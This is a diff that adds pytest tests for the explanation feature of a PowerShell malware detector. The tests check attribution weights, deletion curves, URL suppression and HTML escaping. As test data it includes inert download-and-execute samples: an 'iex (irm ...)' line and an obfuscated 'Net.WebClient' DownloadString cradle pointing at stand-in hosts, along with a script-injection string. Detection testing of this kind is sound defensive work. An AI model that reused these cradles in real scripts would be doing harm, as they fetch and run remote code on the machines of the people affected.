@@ -1,0 +1,103 @@
+"""Explanations cover the text, find what drives the score, and show nothing live."""
+
+import itertools
+
+import numpy as np
+import pytest
+
+from psembed import explain
+from psembed.detector import LayerScore, Verdict
+from psembed.errors import ParameterError
+
+TEXT = (
+    "Get-Service | Where-Object { $_.Status -eq 'Running' } | Export-Csv services.csv; "
+    "Invoke-Evil http://bad.example.test/payload; "
+    "foreach ($name in Get-Content names.txt) { Write-Output $name; Start-Sleep 1 }; Get-Date"
+)
+
+
+class Planted:
+    """A detector whose log-odds gain 3 by one planted word and lose 2 by another."""
+
+    threshold = 0.5
+
+    def score_clean(self, texts):
+        odds = [1.0 + 3.0 * ("Invoke-Evil" in text) - 2.0 * ("Get-Date" in text) for text in texts]
+        return (1 / (1 + np.exp(-np.array(odds)))).astype(np.float32)
+
+
+@pytest.fixture
+def explained():
+    (score,) = Planted().score_clean([TEXT]).tolist()
+    layers = (LayerScore("script", -1, 0, len(TEXT), score),)
+    verdict = Verdict("a.ps1", "00", "ascii", score, True, 0, layers, TEXT)
+    return explain.explain(Planted(), verdict)
+
+
+def test_pieces_cover_the_text_once_from_left_to_right(explained):
+    places = [(piece.start, piece.end) for piece in explained.pieces]
+    assert places[0][0] == 0 and places[-1][1] == len(TEXT)
+    assert all(one[1] == other[0] for one, other in itertools.pairwise(places))
+
+
+def test_the_planted_word_weighs_what_it_adds_and_others_nothing(explained):
+    weights = {TEXT[piece.start : piece.end].strip(): piece.weight for piece in explained.pieces}
+    planted = next(weight for text, weight in weights.items() if "Invoke-Evil" in text)
+    clean = next(weight for text, weight in weights.items() if "Get-Date" in text)
+    assert planted == pytest.approx(3.0, abs=1e-3) and clean == pytest.approx(-2.0, abs=1e-3)
+    assert sum(abs(weight) > 1e-3 for weight in weights.values()) == 2
+
+
+def test_leaving_out_the_heaviest_first_beats_a_random_order(explained):
+    ours = explain.deletion_curve(Planted(), explained)
+    random = [explain.deletion_curve(Planted(), explained, seed=seed) for seed in range(20)]
+    assert len(ours) == len(explained.pieces) + 1 and ours[0] == pytest.approx(explained.score)
+    assert ours.mean() < np.mean([curve.mean() for curve in random]) - 0.1
+    assert {round(float(curve[0] - ours[0]), 6) for curve in random} == {0.0}
+
+
+def test_nothing_live_is_shown(explained):
+    for shown in (explained.to_terminal(), explained.to_text(), explained._repr_html_()):
+        assert "http://" not in shown and "bad.example.test" not in shown
+        assert "Invoke-Evil" in shown
+    assert explained.to_text().splitlines()[0].startswith("  +3.00")
+
+
+def test_html_is_escaped():
+    text = "<script>alert(1)</script> Invoke-Evil"
+    layers = (LayerScore("script", -1, 0, len(text), 0.9),)
+    found = explain.explain(
+        Planted(), Verdict("a", score=0.9, malicious=True, layer=0, layers=layers, read=text)
+    )
+    assert "<script>" not in found._repr_html_() and "&lt;script&gt;" in found._repr_html_()
+
+
+def test_a_long_word_and_an_empty_text_are_pieces_too():
+    assert explain._grouped([], 4) == []
+    assert explain._grouped(explain._words("x" * 5000), 40) == [(0, 5000)]
+    words = explain._words("a b c d e f g h")
+    assert explain._grouped(words, 4) == [(0, 4), (4, 8), (8, 12), (12, 15)]
+
+
+def test_an_address_is_never_cut():
+    text = "iex (irm https://bad.example.test/a;b(c)|d)"
+    assert [text[start:end] for start, end in explain._words(text)][-1].startswith("https://")
+
+
+def test_what_has_no_score_has_no_explanation():
+    with pytest.raises(ParameterError, match="binary data"):
+        explain.explain(Planted(), Verdict("a.exe", reason="binary data, not a script"))
+
+
+def test_the_released_detector_is_explained_faithfully():
+    """An inert stand-in of a downloader between lines of administration."""
+    from psembed.detector import Detector
+
+    detector = Detector.load(threads=1)
+    script = TEXT.replace(
+        "Invoke-Evil http://bad.example.test/payload",
+        "$c=New-Object Net.WebClient;IEX $c.('Downl'+'oadStr'+'ing').Invoke('http://example.test/a.txt')",
+    )
+    found = explain.explain(detector, script)
+    random = np.mean([explain.deletion_curve(detector, found, seed=seed).mean() for seed in range(10)])
+    assert explain.deletion_curve(detector, found).mean() < random
